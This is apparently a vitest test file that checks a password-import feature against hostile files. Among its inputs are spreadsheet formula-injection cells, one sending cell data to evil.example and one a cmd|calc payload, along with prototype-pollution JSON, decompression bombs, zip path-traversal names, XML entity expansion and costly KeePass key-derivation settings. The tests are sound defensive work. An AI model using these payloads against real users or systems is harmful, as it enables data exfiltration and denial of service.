import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import {
  BinaryStream,
  Credentials,
  HmacBlockTransform,
  Int64,
  Kdbx,
  KdbxFormat,
  ProtectedValue,
  VarDictionary,
} from 'kdbxweb'
import { limits } from '../../client/features/import-passwords/limits.ts'
import { importFormats } from '../../client/features/import-passwords/formats.ts'
import { aKdbx, aZip, blobOf, itemsIn, protectedExport, read, refusal, secret } from '../support/import-files.ts'

/** Whoever made the file is a stranger. What is asked here: refused in words or harmless, soon, and nothing quoted. */

const canary = 'canary-Tr0ub4dor&3'
const { ValueType } = VarDictionary
const chrome = 'name,url,username,password\n'

/** In processor time, so that a machine that is busy with something else changes nothing. */
async function soon<Answer>(work: () => Promise<Answer>, mostMs = 10_000): Promise<Answer> {
  const began = process.cpuUsage()
  const answer = await work()
  const { user, system } = process.cpuUsage(began)
  expect((user + system) / 1_000).toBeLessThan(mostMs)
  return answer
}

describe('size', () => {
  const megabyte = Buffer.from('a,b,c,d\n'.repeat(125_000))
  const many = (megabytes: number, first = '') =>
    new Blob([first, ...new Array<Buffer>(megabytes).fill(megabyte).map((part) => new Uint8Array(part))])

  test.each([
    ['a table', chrome, '100 MB; Runkeep reads up to 32 MB'],
    ['JSON', '{"items": [', '100 MB; Runkeep reads up to 64 MB'],
    ['KeePass', Buffer.from([0x03, 0xd9, 0xa2, 0x9a, 0x67, 0xfb, 0x4b, 0xb5]).toString('latin1'), ''],
  ])('100 MB of %s is refused before it is read', async (_, beginning, words) => {
    const first = words === '' ? new Uint8Array(Buffer.from(beginning, 'latin1')) : beginning
    const told = await soon(() => refusal(new Blob([first, many(100)])), 2_000)
    expect(told).toMatchObject({ code: 'too-large', message: expect.stringContaining(words) })
  })

  test('50,000 rows are read; one more is refused', async () => {
    const rows = (count: number) =>
      `${chrome}${Array.from({ length: count }, (_, at) => `Item ${at},https://h${at}.example.com,u,p${at}\n`).join('')}`
    const { items } = await soon(() => itemsIn(rows(limits.items)))
    expect(items).toHaveLength(50_000)
    expect(await refusal(rows(limits.items + 1))).toMatchObject({
      code: 'too-many',
      message: expect.stringContaining('more than 50,000 rows'),
    })
  })

  test('a table that is all columns, all quotation marks, or one long line', async () => {
    expect((await soon(() => refusal('a,'.repeat(2_000_000)))).code).toBe('too-many')
    expect((await soon(() => refusal(`a,b\n${'"'.repeat(2_000_001)}`, { format: 'csv' }))).code).toBe('damaged')
    expect((await soon(() => refusal('a'.repeat(20_000_000)))).code).toBe('unknown-format')
    expect(
      (await soon(() => itemsIn(`${chrome}${'a'.repeat(5_000_000)},,b,${'c'.repeat(5_000_000)}\n`))).items[0]!.title,
    ).toHaveLength(200)
  })
})

describe('texts', () => {
  test('cells that a spreadsheet would run are text and nothing more', async () => {
    const cells = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|calc', '-1', '@SUM(A1)', '\t=1', '＝1']
    const text = `${chrome}${cells.map((cell) => `"${cell.replaceAll('"', '""')}",,u,"${cell.replaceAll('"', '""')}"`).join('\n')}\n`
    const { items } = await itemsIn(text)
    expect(items.map(({ password }) => password)).toEqual(cells)
  })

  test('NUL characters: a table is refused, in JSON they go from lines and notes', async () => {
    expect((await refusal(`${chrome}A,,u,p\u0000w\n`, { format: 'chrome-csv' })).message).toContain('NUL')
    const [item] = (
      await itemsIn(
        JSON.stringify({
          items: [{ type: 1, name: 'A\u0000B\nC\u0007', notes: 'x\u0000y\nz', login: { password: 'p' } }],
        }),
      )
    ).items
    expect(item).toMatchObject({ title: 'A B C', notes: 'xy\nz' })
  })

  test('half characters are mended and told where they matter', async () => {
    const [item] = (
      await itemsIn('{"items":[{"type":1,"name":"A\\ud800","login":{"username":"u\\udc00","password":"p\\ud800w"}}]}')
    ).items
    expect(item).toMatchObject({
      title: 'A\uFFFD',
      username: 'u\uFFFD',
      cautions: [expect.stringContaining('half of a character')],
    })
  })

  test('what lies open in the vault holds no password and no token', async () => {
    const data = {
      folders: [{ id: 'f', name: `Servers/${canary}` }],
      items: [
        {
          type: 1,
          folderId: 'f',
          name: `Router ${canary}`,
          login: {
            password: canary,
            uris: [
              { uri: `https://me:${encodeURIComponent(canary)}@a.example.com/x` },
              { uri: 'https://b.example.com/?access_token=abc#k' },
              { uri: 'https://c.example.com/#/login?page=2' },
            ],
          },
        },
      ],
    }
    const [item] = (await itemsIn(JSON.stringify(data))).items
    expect(item!.addresses).toEqual([
      'https://a.example.com/x',
      'https://b.example.com/',
      'https://c.example.com/#/login?page=2',
    ])
    expect(item!.folder).toEqual(['Servers'])
    expect(item!.fields.map(({ label, kind }) => [label, kind])).toEqual([
      ['Full address', 'secret'],
      ['Full address', 'secret'],
    ])
    expect(item!.cautions.join(' ')).toContain('Its name holds the password')
    expect(item!.cautions.join(' ')).not.toContain(canary)
  })
})

describe('JSON', () => {
  test('200,000 brackets deep', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
    expect(['damaged', 'not-this-format']).toContain((await soon(() => refusal(deep))).code)
    const { items } = await soon(() =>
      itemsIn(`{"items":[{"type":1,"name":"A","login":{"uris":${deep},"password":"x"}}]}`),
    )
    expect(items).toMatchObject([{ title: 'A', addresses: [] }])
  })

  test('names of the prototype are names', async () => {
    const text = `{"__proto__":{"polluted":true},"items":[{"__proto__":{"type":1,"name":"A"},"type":1,"name":"B","login":{"__proto__":{"password":"x"}},
      "fields":[{"name":"__proto__","value":"v","type":1},{"name":"constructor","value":"w","type":0}]}]}`
    const [item] = (await itemsIn(text)).items
    expect(item).toMatchObject({ title: 'B', password: '', fields: [{ label: '__proto__' }, { label: 'constructor' }] })
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
    const { items } = await itemsIn('name,url,username,password,note\n__proto__,,constructor,p,hasOwnProperty\n')
    expect(items).toMatchObject([{ title: '__proto__', username: 'constructor' }])
  })

  test('values of every wrong kind', async () => {
    for (const wrong of ['null', '1', 'true', '"x"', '[]', '{}', '[null]', '[[{}]]']) {
      const text = `{"folders":${wrong},"items":[${wrong},{"type":1,"name":${wrong},"notes":${wrong},"login":${wrong},"fields":${wrong},"passwordHistory":${wrong},"folderId":${wrong}},
        {"type":1,"name":"A","login":{"uris":${wrong},"username":${wrong},"password":${wrong},"totp":${wrong}},"creationDate":${wrong}}]}`
      expect((await itemsIn(text)).items.length).toBeGreaterThan(0)
      const pux = `{"accounts":[${wrong},{"vaults":[${wrong},{"attrs":${wrong},"items":[${wrong},{"categoryUuid":"001","overview":${wrong},"details":${wrong}},
        {"categoryUuid":"001","overview":{"urls":${wrong},"tags":${wrong}},"details":{"loginFields":${wrong},"sections":[${wrong},{"fields":[${wrong},{"value":${wrong}}]}]}}]}]}]}`
      expect((await itemsIn(pux)).format).toBe('1pux')
    }
  })
})

describe('KeePass', () => {
  test.each([
    [
      'more memory than a tab has',
      (kdbx: Kdbx) => kdbx.header.kdfParameters!.set('M', ValueType.UInt64, new Int64(0, 256)),
    ],
    [
      'passes without end',
      (kdbx: Kdbx) => kdbx.header.kdfParameters!.set('I', ValueType.UInt64, new Int64(0xffffffff, 1)),
    ],
    ['too many lanes', (kdbx: Kdbx) => kdbx.header.kdfParameters!.set('P', ValueType.UInt32, 100_000)],
  ])('%s is refused before it is spent', async (_, demand) => {
    const file = await aKdbx({
      version: 4,
      fill: (kdbx) => kdbx.header.kdfParameters!.set('M', ValueType.UInt64, new Int64(1024 * 1024)),
    })
    const told = await soon(() => refusal(demandingHeader(file, demand), { password: 'demo' }), 2_000)
    expect(['too-costly', 'damaged']).toContain(told.code)
  })

  test('rounds of AES without end are refused', async () => {
    const file = await aKdbx({ version: 3 })
    // The field of the rounds: its number, its length, eight bytes.
    const at = Buffer.from(file).indexOf(Buffer.from([6, 8, 0, 100, 0, 0, 0, 0, 0, 0, 0]))
    expect(at).toBeGreaterThan(0)
    file[at + 7] = 0xff
    expect(await soon(() => refusal(file, { password: 'demo' }), 2_000)).toMatchObject({ code: 'too-costly' })
  })

  test('a bomb inside is refused by its size; one that lies about it goes nowhere', async () => {
    const announced = gzipSync('x')
    announced.writeUInt32LE(0x7fffffff, announced.length - 4)
    expect((await soon(() => refusalOfInside(announced), 2_000)).code).toBe('too-large')
    const lying = gzipSync(Buffer.alloc(60_000_000))
    lying.writeUInt32LE(1_000, lying.length - 4)
    expect((await soon(() => refusalOfInside(lying))).code).toBe('damaged')
  })

  test('groups a thousand deep', async () => {
    const file = await aKdbx({
      version: 4,
      fill(kdbx) {
        let group = kdbx.getDefaultGroup()
        for (let depth = 0; depth < 1_000; depth++) group = kdbx.createGroup(group, 'deeper')
        kdbx.createEntry(group).fields.set('Title', 'At the bottom')
      },
    })
    expect((await soon(() => itemsIn(file, { password: 'demo' }))).items[0]!.folder).toHaveLength(1_000)
  })

  test('XML with entities and another document type', async () => {
    const xml =
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><KeePassFile>&b;</KeePassFile>'
    expect((await soon(() => refusalOfInside(gzipSync(xml)), 2_000)).code).toBe('damaged')
  })
})

/** The same file asking for another derivation: its header is read before anything is checked. */
function demandingHeader(file: Uint8Array, demand: (kdbx: Kdbx) => void): Uint8Array {
  const kdbx = Kdbx.create(new Credentials(ProtectedValue.fromString('x')), 'x')
  demand(kdbx)
  kdbx.header.generateSalts()
  const stream = new BinaryStream()
  kdbx.header.write(stream)
  return Buffer.concat([new Uint8Array(stream.getWrittenBytes()), file.subarray(-200)])
}

/** A genuine KDBX 4 file, sealed with its password, whose inside is whatever the stranger wants. */
async function refusalOfInside(packed: Uint8Array) {
  const credentials = new Credentials(ProtectedValue.fromString('demo'))
  await aKdbx({ version: 4 })
  const kdbx = Kdbx.create(credentials, 'x')
  await credentials.ready
  kdbx.header.kdfParameters!.set('M', ValueType.UInt64, new Int64(64 * 1024))
  kdbx.header.generateSalts()
  const stream = new BinaryStream()
  kdbx.header.write(stream)
  const format = new KdbxFormat(kdbx)
  const call = <Answer>(name: string, ...given: unknown[]) =>
    (Reflect.get(format, name) as (...given: unknown[]) => Promise<Answer>).apply(format, given)
  stream.writeBytes(await call<ArrayBuffer>('getHeaderHash', stream))
  const keys = await call<{ hmacKey: ArrayBuffer; cipherKey: ArrayBuffer }>('computeKeysV4')
  stream.writeBytes(await call<ArrayBuffer>('getHeaderHmac', stream, keys.hmacKey))
  const sealed = await call<ArrayBuffer>('encryptData', new Uint8Array(packed).buffer, keys.cipherKey)
  stream.writeBytes(await HmacBlockTransform.encrypt(sealed, keys.hmacKey))
  return refusal(new Uint8Array(stream.getWrittenBytes()), { password: 'demo' })
}

describe('archives', () => {
  test('300 MB of nothing in 300 kB is given up on the way, whatever size it claims', async () => {
    const bomb = new Uint8Array(
      await (await aZip({ 'export.data': '0'.repeat(limits.unpackedBytes + 1) })).arrayBuffer(),
    )
    expect(bomb.length).toBeLessThan(1_000_000)
    expect((await soon(() => refusal(new Blob([bomb])))).code).toBe('too-large')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(limits.unpackedBytes + 1)
    const lying = Buffer.from(bomb)
    let lies = 0
    for (let at = lying.indexOf(size); at !== -1; at = lying.indexOf(size, at + 4), lies++)
      lying.writeUInt32LE(1_000, at)
    expect(lies).toBeGreaterThan(0)
    expect(['too-large', 'damaged']).toContain((await soon(() => refusal(lying))).code)
  })

  test('two entries of one name, and names that climb', async () => {
    const zip = Buffer.from(
      await (await aZip({ 'export.data': '{"accounts":[]}', 'export.datb': '{"accounts":[]}' })).arrayBuffer(),
    )
    for (let at = zip.indexOf('export.datb'); at !== -1; at = zip.indexOf('export.datb')) zip.write('export.data', at)
    expect((await refusal(zip)).code).toBe('damaged')
    const climbing = await aZip({ '../export.data': '{"accounts":[]}', '/export.data': 'x' })
    expect(['damaged', 'not-this-format']).toContain((await refusal(climbing)).code)
  })
})

test('no refusal quotes the file, whatever format it is taken for', async () => {
  const bitwarden = JSON.stringify({ items: [{ type: 1, name: canary, login: { password: canary } }] })
  const files = [
    `${bitwarden.slice(0, -5)} ${canary}`,
    JSON.stringify({ ...protectedExport(bitwarden, 'a', { kdfType: 0, kdfIterations: 1 }), data: canary }),
    JSON.stringify({ encrypted: true, encKeyValidation_DO_NOT_EDIT: canary }),
    `${chrome}A,,u,"${canary}\n`,
    `${chrome}A,,u,"${canary}" ${canary}\n`,
    `${canary}\u0000${canary},x\n`,
    Buffer.concat([Buffer.from(`${chrome}A,,u,${canary}`), Buffer.from([0xff])]),
    await aKdbx({
      version: 4,
      password: canary,
      fill: (kdbx) => void kdbx.createEntry(kdbx.getDefaultGroup()).fields.set('Password', secret(canary)),
    }),
    await aZip({ 'export.data': `{"accounts": ${canary}` }),
    await aZip({ [canary]: canary }),
  ]
  let refused = 0
  for (const file of files)
    for (const format of [undefined, ...importFormats]) {
      try {
        await read(file instanceof Blob ? file : blobOf(file), {
          password: `not-${canary}`,
          ...(format && { format }),
        })
      } catch (error) {
        refused++
        expect(error).toHaveProperty('name', 'ImportError')
        const { message, stack = '', cause } = error as Error
        expect(`${message}${stack}${String(cause)}${JSON.stringify(error)}`).not.toContain('canary-')
      }
    }
  expect(refused).toBeGreaterThan(80)
})
